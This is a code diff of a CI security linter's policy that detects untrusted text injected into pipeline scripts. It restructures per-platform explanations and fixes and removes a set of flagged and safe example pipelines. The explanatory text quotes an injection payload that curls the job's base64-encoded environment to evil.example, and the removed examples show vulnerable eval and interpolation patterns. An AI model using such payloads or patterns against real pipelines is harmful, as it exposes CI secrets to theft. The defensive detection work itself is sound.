@@ -38,8 +38,46 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, and Groovy on Jenkins with `sh "… ${env.CHANGE_TITLE}"`. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. On Jenkins write the script in single quotes, `sh \'echo "$CHANGE_TITLE"\'`, and put a parameter into the environment first (`withEnv`). Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
+    why: 'Text that becomes part of a script before the shell reads it is run as a part of that script. An issue with the title `"; curl https://evil.example/$(env | base64); "` then is a command, with each secret of the job. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it in the script: `echo "$TITLE"`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    on: {
+      "github-actions": {
+        why: "`${{ … }}` becomes part of the script in this way.",
+        fix: 'Write `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`.',
+      },
+      "azure-pipelines": {
+        why: "`$(Build.SourceVersionMessage)` and `${{ parameters.name }}` become part of the script in this way.",
+        fix: "Map it, `env: { MESSAGE: $(Build.SourceVersionMessage) }`, and give a parameter its `values:`.",
+      },
+      buildkite: {
+        why: "`$BUILDKITE_MESSAGE` becomes part of the script in this way, while the pipeline is uploaded.",
+        fix: "Write `$$BUILDKITE_MESSAGE`, which only the shell of the job fills in.",
+      },
+      circleci: {
+        why: "`<< … >>` becomes part of the script in this way.",
+        fix: "Use `environment:` of the `run:`; branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already.",
+      },
+      "cloud-build": {
+        why: "`$BRANCH_NAME` becomes part of the script in this way.",
+        fix: "Give the substitution to a variable of the step, `env: [BRANCH=$BRANCH_NAME]`, and write `$$BRANCH`.",
+      },
+      drone: {
+        why: "`${DRONE_COMMIT_MESSAGE}` becomes part of the script in this way, before the file is read.",
+        fix: "Write `$DRONE_COMMIT_MESSAGE` or `$${…}`, which only the shell fills in.",
+      },
+      woodpecker: {
+        why: "`${CI_COMMIT_MESSAGE}` becomes part of the script in this way, before the file is read.",
+        fix: "Write `$CI_COMMIT_MESSAGE` or `$${…}`, which only the shell fills in.",
+      },
+      jenkins: {
+        why: 'Groovy fills in `sh "… ${env.CHANGE_TITLE}"`.',
+        fix: "Write the script in single quotes, `sh 'echo \"$CHANGE_TITLE\"'`, and put a parameter into the environment first (`withEnv`).",
+      },
+      tekton: {
+        why: "`$(params.title)` and `{{ source_branch }}` become part of the script in this way.",
+        fix: "Give the parameter to a variable of the step: `env: [{ name: TITLE, value: $(params.title) }]`.",
+      },
+    },
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -72,305 +110,6 @@ export const secretInInjectableStep = definePolicy({
     "travis",
     "woodpecker",
   ],
-  examples: {
-    flag: [
-      {
-        text: `
-          on: issues
-          jobs:
-            greet:
-              runs-on: ubuntu-latest
-              steps:
-                - run: echo "Thanks for \${{ «github.event.issue.title» }}"
-                  env:
-                    API_TOKEN: \${{ secrets.API_TOKEN }}
-                - uses: actions/github-script@v8
-                  with:
-                    script: console.log("\${{ «github.event.issue.body» }}")
-        `,
-      },
-      {
-        text: `
-          on: [pull_request_target, push]
-          env:
-            BRANCH: \${{ github.head_ref }}
-          jobs:
-            build:
-              runs-on: ubuntu-latest
-              steps:
-                - run: git log -1 --format=%s "origin/\${{ «env.BRANCH» }}"
-                - run: eval "build --branch «$BRANCH»"
-                - run: echo '\${{ toJSON(«github.event.head_commit.message») }}'
-        `,
-      },
-      {
-        text: `
-          on: pull_request
-          jobs:
-            lint:
-              runs-on: ubuntu-latest
-              steps:
-                - uses: tj-actions/changed-files@${"0123456789".repeat(4)}
-                  id: changed
-                - run: lint \${{ «steps.changed.outputs.all_changed_files» }}
-        `,
-      },
-      {
-        path: "action.yml",
-        text: `
-          name: Announce
-          inputs:
-            message:
-              description: What to say.
-            token:
-              description: For the chat.
-          runs:
-            using: composite
-            steps:
-              - shell: bash
-                run: announce "\${{ «inputs.message» }}"
-                env:
-                  CHAT_TOKEN: \${{ inputs.token }}
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          notify:
-            script:
-              - eval "echo «$CI_COMMIT_MESSAGE»"
-              - bash -c "notify --title '«\${CI_MERGE_REQUEST_TITLE}»' --key $CHAT_KEY"
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          variables:
-            BRANCH: origin/$CI_COMMIT_REF_NAME
-          deploy:
-            script:
-              - ssh deploy@example.com "cd /srv/app && git checkout «$BRANCH»"
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          .template:
-            before_script:
-              - python3 -c "print('«$CI_COMMIT_TITLE»')"
-          test:
-            extends: .template
-            script: [make test]
-        `,
-      },
-      {
-        path: "azure-pipelines.yml",
-        text: `
-          pr: [main]
-          steps:
-            - powershell: echo "«$(Build.SourceBranch)»"
-            - bash: |
-                git log -1 «$(System.PullRequest.SourceBranch)»
-                notify "«$(Build.SourceVersionMessage)»"
-              env:
-                CHAT_TOKEN: $(ChatToken)
-        `,
-      },
-      {
-        path: "azure-pipelines.yml",
-        text: `
-          parameters:
-            - name: target
-              type: string
-          steps:
-            - task: Bash@3
-              inputs:
-                targetType: inline
-                script: deploy --to \${{ «parameters.target» }} --branch \${{ «variables['Build.SourceBranchName']» }}
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          spec:
-            inputs:
-              target:
-                description: Where to deploy.
-              level:
-                options: [low, high]
-          ---
-          deploy:
-            script:
-              - ./deploy «$[[ inputs.target ]]» --level $[[ inputs.level ]]
-        `,
-      },
-      {
-        path: ".circleci/config.yml",
-        text: `
-          version: 2.1
-          parameters:
-            target: { type: string, default: staging }
-          commands:
-            say:
-              parameters:
-                text: { type: string }
-              steps:
-                - run: notify --text "«<< parameters.text >>»" --key "$CHAT_KEY"
-          jobs:
-            build:
-              docker: [{ image: cimg/base:2026.01 }]
-              steps:
-                - run: git checkout «<< pipeline.git.branch >>»
-                - run: deploy --to «<< pipeline.parameters.target >>»
-                - say: { text: "by << pipeline.git.commit.author_name >>" }
-                - run: bash -c "build --title '«<< pipeline.event.github.pull_request.title >>»'"
-                - run: eval "build --branch «$CIRCLE_BRANCH»"
-          workflows:
-            main:
-              jobs: [build]
-        `,
-      },
-      {
-        text: `
-          on:
-            issues:
-          env:
-            LAST: \${{ github.event.pull_request.title }}
-          jobs:
-            note:
-              permissions: {}
-              runs-on: ubuntu-latest
-              strategy:
-                matrix:
-                  text: ["\${{ github.event.issue.title }}"]
-              steps:
-                - run: echo "\${{ «matrix.text» }}"
-                - run: echo "\${{ «env.LAST» }}"
-        `,
-      },
-    ],
-    ok: [
-      {
-        text: `
-          on: issues
-          jobs:
-            greet:
-              runs-on: ubuntu-latest
-              steps:
-                - run: |
-                    echo "Thanks for $TITLE"
-                    bash -c 'echo "$1"' _ "$TITLE"
-                  env:
-                    TITLE: \${{ github.event.issue.title }}
-                    API_TOKEN: \${{ secrets.API_TOKEN }}
-                - if: contains(github.event.issue.body, 'help')
-                  run: ./help.sh \${{ github.event.issue.number }} \${{ contains(github.event.issue.body, 'now') }}
-        `,
-      },
-      {
-        text: `
-          on:
-            push:
-              branches: [main]
-            workflow_dispatch:
-              inputs:
-                level:
-                  type: choice
-                  options: [patch, minor]
-          jobs:
-            release:
-              if: github.event_name == 'push'
-              runs-on: ubuntu-latest
-              steps:
-                - run: release \${{ inputs.level }} \${{ github.sha }} \${{ github.event.pull_request.number }}
-        `,
-      },
-      {
-        text: `
-          on: pull_request_target
-          jobs:
-            label:
-              if: github.event.pull_request.head.repo.full_name == github.repository
-              runs-on: ubuntu-latest
-              steps:
-                - run: label \${{ github.head_ref }}
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          notify:
-            script:
-              - echo "$CI_COMMIT_MESSAGE"
-              - eval "$(ssh-agent -s)"
-              - bash -c 'notify "$CI_COMMIT_TITLE"'
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          build:
-            script:
-              - sh -c 'build --branch "$1"' _ "$CI_COMMIT_REF_NAME"
-              - python3 build.py -c "$CI_COMMIT_TITLE"
-        `,
-      },
-      {
-        path: ".gitlab-ci.yml",
-        text: `
-          deploy:
-            script:
-              - ssh deploy@example.com "cd /srv/app && git checkout $CI_COMMIT_SHA && ./up $CI_COMMIT_REF_SLUG"
-        `,
-      },
-      {
-        path: "azure-pipelines.yml",
-        text: `
-          parameters:
-            - name: target
-              type: string
-              values: [staging, production]
-            - name: fast
-              type: boolean
-          steps:
-            - bash: |
-                git log -1 "$BRANCH"
-                notify "$MESSAGE" $(Build.BuildId) $(Build.SourceVersion)
-                deploy --to \${{ parameters.target }} \${{ eq(parameters.fast, true) }}
-              env:
-                BRANCH: $(System.PullRequest.SourceBranch)
-                MESSAGE: $(Build.SourceVersionMessage)
-                CHAT_TOKEN: $(ChatToken)
-        `,
-      },
-      {
-        path: ".circleci/config.yml",
-        text: `
-          version: 2.1
-          parameters:
-            count: { type: integer, default: 1 }
-            target: { type: enum, enum: [staging, production], default: staging }
-          jobs:
-            build:
-              parameters:
-                title: { type: string, default: none }
-              docker: [{ image: cimg/base:2026.01 }]
-              steps:
-                - run:
-                    command: notify --text "$TITLE" --key "$CHAT_KEY"
-                    environment:
-                      TITLE: << pipeline.event.github.pull_request.title >>
-                - run: build --count << pipeline.parameters.count >> --to << pipeline.parameters.target >> --title << parameters.title >>
-                - run: git checkout "$CIRCLE_BRANCH" && echo << pipeline.git.revision >>
-                - run: bash -c 'build "$1"' _ "$CIRCLE_TAG"
-          workflows:
-            main:
-              when: { equal: [main, << pipeline.git.branch >>] }
-              jobs: [build]
-        `,
-      },
-    ],
-  },
   check({ model, flows }) {
     if (model.kind === "buildkite") return onePerPlace(uploadedWith(model, flows).map(matchOfChosen));
     if (model.kind === "drone") return onePerPlace(substitutedWith(DRONE, model, flows).map(matchOfChosen));
